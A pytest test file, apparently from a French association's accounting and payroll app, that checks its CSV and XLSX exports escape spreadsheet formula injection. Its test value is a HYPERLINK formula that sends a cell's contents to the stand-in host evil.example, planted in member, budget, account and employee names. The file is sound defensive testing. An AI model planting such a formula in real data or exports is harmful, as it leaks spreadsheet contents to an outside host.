"""No export hands a spreadsheet a formula to run (OWASP "CSV injection"): a member named
``=HYPERLINK(…)`` and a budget line labelled so come out as text in every CSV and XLSX the
back office can download — an apostrophe before the CSV cell, a text cell (never a formula)
in the XLSX — while numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from accounting.formats import safe_cell, text_cells_as_text
from eage.dashboard.table import TABLES
from eage.extensions import db
from eage.invoicing import services as invoicing
from eage.invoicing.services import LineSpec
from eage.locks import take_issuing_lock
from eage.models import BudgetLine, Member
from eage.models.books import LedgerAccount
from payroll.documents.model import JournalRow
from payroll.documents.office import journal_xlsx

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Association Le Fil", "Association Le Fil"),
        ("", ""),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (None, None),
        (date(2026, 1, 1), date(2026, 1, 1)),
    ],
)
def test_safe_cell_escapes_text_only(value: Any, expected: Any) -> None:
    assert safe_cell(value) == expected


def test_text_cells_as_text_turns_every_formula_into_text() -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append([EVIL, "-x", -12.5, "plain"])
    assert ws["A1"].data_type == "f"  # openpyxl's own reading of a string starting with =
    text_cells_as_text(ws)
    out = io.BytesIO()
    wb.save(out)
    back = load_workbook(io.BytesIO(out.getvalue())).active
    assert back["A1"].data_type == "s" and back["A1"].value == EVIL
    assert back["A1"].quotePrefix and back["B1"].quotePrefix
    assert back["C1"].data_type == "n" and back["C1"].value == -12.5
    assert b"<f>" not in _sheet_xml(out.getvalue())


def _sheet_xml(workbook: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return b"".join(
            archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")
        )


def _assert_xlsx_safe(data: bytes, where: str) -> int:
    """No formula anywhere in the workbook; every evil text cell is a text cell. Returns how
    many evil cells it saw (the test checks the name did reach the export)."""
    assert b"<f>" not in _sheet_xml(data), where
    seen = 0
    for row in load_workbook(io.BytesIO(data)).active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                assert cell.data_type == "s", (where, cell.coordinate)
                assert cell.value.lstrip("'").startswith("=") or "HYPERLINK" in cell.value
                seen += 1
    return seen


def _assert_csv_safe(data: bytes, where: str) -> int:
    seen = 0
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"):
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (where, value)
            if value.startswith("-"):  # only numbers may start with a minus
                Decimal(value.replace(",", ".").replace(" %", ""))
            if "HYPERLINK" in value:
                assert value.startswith("'="), (where, value)
                seen += 1
    return seen


@pytest.fixture()
def evil_names(demo: None) -> None:
    """A member, the budget lines and the accounts whose names are formulas; an invoice."""
    lefil = db.session.scalars(select(Member).where(Member.code == "LEFIL")).one()
    lefil.name = EVIL
    for line in db.session.scalars(select(BudgetLine)):
        line.label = EVIL
    db.session.commit()
    for _ in range(2):  # the second one is posted under the renamed accounts
        take_issuing_lock()
        invoicing.issue_document(
            kind="invoice",
            origin="fee",
            member=lefil,
            lines=[LineSpec("fee", EVIL, Decimal("30.00"))],
            period=(date(2026, 1, 1), date(2026, 12, 31)),
            issue_date=date(2026, 11, 10),
        )
        db.session.commit()
        for account in db.session.scalars(select(LedgerAccount)):
            account.label = EVIL  # the chart's labels are typed by the accountant
        db.session.commit()


@pytest.mark.parametrize("name", sorted(TABLES))
def test_dashboard_exports_write_names_as_text(login_as, evil_names, name: str) -> None:
    client = login_as("accountant")
    xlsx = client.get(f"/tableau-de-bord/export/{name}.xlsx?annee=2026")
    csv_ = client.get(f"/tableau-de-bord/export/{name}.csv?annee=2026")
    assert xlsx.status_code == csv_.status_code == 200
    seen_x = _assert_xlsx_safe(xlsx.data, name)
    seen_c = _assert_csv_safe(csv_.data, name)
    assert seen_x == seen_c


def test_the_evil_names_reach_the_exports(login_as, evil_names) -> None:
    """Otherwise the tests above would pass on empty tables."""
    client = login_as("accountant")
    for name in ("budget", "budget_mois"):
        assert _assert_csv_safe(client.get(f"/tableau-de-bord/export/{name}.csv").data, name)
        assert _assert_xlsx_safe(client.get(f"/tableau-de-bord/export/{name}.xlsx").data, name)


@pytest.mark.parametrize(
    "url",
    [
        "/comptabilite/balance?annee=2026&format=xlsx",
        "/comptabilite/grand-livre?annee=2026&format=xlsx",
        "/comptabilite/adherents?annee=2026&format=xlsx",
        "/comptabilite/balance-agee?date=2027-03-01&format=xlsx",
    ],
)
def test_ledger_workbooks_write_names_as_text(login_as, evil_names, url: str) -> None:
    response = login_as("accountant").get(url)
    assert response.status_code == 200
    seen = _assert_xlsx_safe(response.data, url)
    # The general ledger titles its sections with the label the lines were posted under.
    assert seen > 0 or "grand-livre" in url


def test_vat_csv_is_safe(login_as, evil_names) -> None:
    response = login_as("accountant").get("/comptabilite/tva.csv?annee=2026")
    assert response.status_code == 200
    _assert_csv_safe(response.data, "tva")


def test_payroll_journal_writes_the_employee_name_as_text() -> None:
    slip = {
        name: "0.00"
        for name in (
            "gross",
            "employee_contributions",
            "employer_contributions",
            "reductions",
            "net_social",
            "net_before_tax",
            "tax_withheld",
            "net_paid",
            "employer_cost",
        )
    }
    slip["reductions"] = "-12.50"
    row = JournalRow(employee_code="X1", employee_name=EVIL, number="P-1", payslip=slip)
    data = journal_xlsx([row], month_label="novembre 2026", employer_name="=1+1")
    assert _assert_xlsx_safe(data, "journal") == 1
